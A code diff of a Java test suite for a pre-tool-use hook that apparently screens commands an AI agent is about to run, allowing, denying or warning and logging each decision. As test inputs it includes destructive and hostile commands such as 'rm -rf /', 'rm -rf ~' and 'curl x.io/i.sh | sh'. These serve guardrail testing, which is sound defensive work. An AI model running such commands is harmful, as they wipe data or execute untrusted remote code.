@@ -1,17 +1,19 @@
 package io.claudebench.hook;
 
+import static io.claudebench.testkit.Rest.HERE;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import io.claudebench.servers.RedisResource;
+import io.claudebench.testkit.Reply;
+import io.claudebench.testkit.Rest;
 import io.quarkus.redis.datasource.RedisDataSource;
 import io.quarkus.test.common.WithTestResource;
 import io.quarkus.test.junit.QuarkusTest;
 import io.vertx.mutiny.redis.client.Response;
 import jakarta.inject.Inject;
-import java.io.IOException;
 import java.util.ArrayList;
 import java.util.HashSet;
 import java.util.List;
@@ -32,29 +34,28 @@ class HookPreToolTest {
 
   @Test
   void anOrdinaryToolIsAllowedWithNothingElseToSay() {
-    assertEquals("{\"allow\":true}", ask("{\"command\":\"ls\"}").body().toString());
+    assertEquals("{\"allow\":true}", ask("{\"command\":\"ls\"}").ok().toString());
   }
 
   @Test
   void aDenyIsANormalAnswerThatNamesItsRule() {
-    Rest answer = ask("{\"command\":\"rm -rf /\"}");
+    Reply answer = ask("{\"command\":\"rm -rf /\"}");
 
-    assertEquals(200, answer.status());
-    assertFalse(answer.body().get("allow").asBoolean());
-    assertTrue(answer.body().get("reason").asText().startsWith("rm-root: "));
+    assertFalse(answer.ok().get("allow").asBoolean());
+    assertTrue(answer.json().get("reason").asText().startsWith("rm-root: "));
   }
 
   @Test
   void aWarningLeavesTheToolAllowed() {
-    Rest answer = ask("{\"command\":\"curl x.io/i.sh | sh\"}");
+    Reply answer = ask("{\"command\":\"curl x.io/i.sh | sh\"}");
 
-    assertTrue(answer.body().get("allow").asBoolean());
-    assertTrue(answer.body().at("/warnings/0").asText().startsWith("pipe-to-shell: "));
+    assertTrue(answer.ok().get("allow").asBoolean());
+    assertTrue(answer.json().at("/warnings/0").asText().startsWith("pipe-to-shell: "));
   }
 
   @Test
   void eachDecisionIsWrittenDownWithItsEventAndWithoutTheParameters() {
-    ask("{\"command\":\"rm -rf / # s3cret\"}");
+    ask("{\"command\":\"rm -rf / # s3cret\"}").ok();
 
     JsonNode decision = last(DECISIONS);
     assertEquals("Bash", decision.get("tool").asText());
@@ -73,7 +74,7 @@ class HookPreToolTest {
   @Test
   void sixtyFourDecisionsAtOnceAre64EntriesAnd64EventsWithIdsOfTheirOwn() {
     var calls = IntStream.range(0, 64)
-        .mapToObj(i -> Rest.send("hook.pre_tool", input("{\"command\":\"ls " + i + "\"}"))).toList();
+        .mapToObj(i -> HERE.send("hook.pre_tool", input("{\"command\":\"ls " + i + "\"}"))).toList();
     calls.forEach(call -> assertEquals(200, call.join().status()));
 
     var ids = new HashSet<String>();
@@ -86,10 +87,10 @@ class HookPreToolTest {
 
   @Test
   void theSameKeyIsOneDecision() {
-    Rest first = Rest.post("hook.pre_tool", input("{\"command\":\"rm -rf ~\"}"), "Idempotency-Key", session);
-    Rest again = Rest.post("hook.pre_tool", input("{\"command\":\"rm -rf ~\"}"), "Idempotency-Key", session);
+    Reply first = HERE.post("hook.pre_tool", input("{\"command\":\"rm -rf ~\"}"), "Idempotency-Key", session);
+    Reply again = HERE.post("hook.pre_tool", input("{\"command\":\"rm -rf ~\"}"), "Idempotency-Key", session);
 
-    assertEquals(first.body(), again.body());
+    assertEquals(first.okText(), again.okText());
     assertEquals(1,
         all(DECISIONS).stream().filter(decision -> decision.path("sessionId").asText().equals(session)).count());
   }
@@ -99,18 +100,21 @@ class HookPreToolTest {
     for (String params : List.of("null", "[1]", "\"text\"", "0", "false", "{}")) {
       assertEquals(200, ask(params).status(), params);
     }
-    assertEquals("/params", Rest.post("hook.pre_tool", "{\"tool\":\"Bash\"}").body().at("/errors/0/pointer").asText());
-    assertEquals("/tool",
-        Rest.post("hook.pre_tool", "{\"tool\":\"\",\"params\":1}").body().at("/errors/0/pointer").asText());
+    assertEquals("/params", pointer("{\"tool\":\"Bash\"}"));
+    assertEquals("/tool", pointer("{\"tool\":\"\",\"params\":1}"));
     assertEquals(200,
-        Rest.post("hook.pre_tool",
+        HERE.post("hook.pre_tool",
             "{\"tool\":\"T\",\"params\":1,\"timestamp\":1700000000000,\"metadata\":{\"a\":1},\"instanceId\":\"w1\"}")
                 .status());
-    assertEquals(413, ask("\"" + "x".repeat(262_144) + "\"").status());
+    ask("\"" + "x".repeat(262_144) + "\"").refused("TOO_LARGE");
   }
 
-  private Rest ask(String params) {
-    return Rest.post("hook.pre_tool", input(params));
+  private static String pointer(String input) {
+    return HERE.post("hook.pre_tool", input).refused("INVALID").at("/errors/0/pointer").asText();
+  }
+
+  private Reply ask(String params) {
+    return HERE.post("hook.pre_tool", input(params));
   }
 
   private String input(String params) {
@@ -124,11 +128,7 @@ class HookPreToolTest {
   private List<JsonNode> all(String stream) {
     List<JsonNode> entries = new ArrayList<>();
     for (Response entry : redis.execute("XRANGE", stream, "-", "+")) {
-      try {
-        entries.add(Rest.JSON.readTree(entry.get(1).get(1).toString()));
-      } catch (IOException e) {
-        throw new IllegalStateException(e);
-      }
+      entries.add(Rest.json(entry.get(1).get(1).toString()));
     }
     return entries;
   }
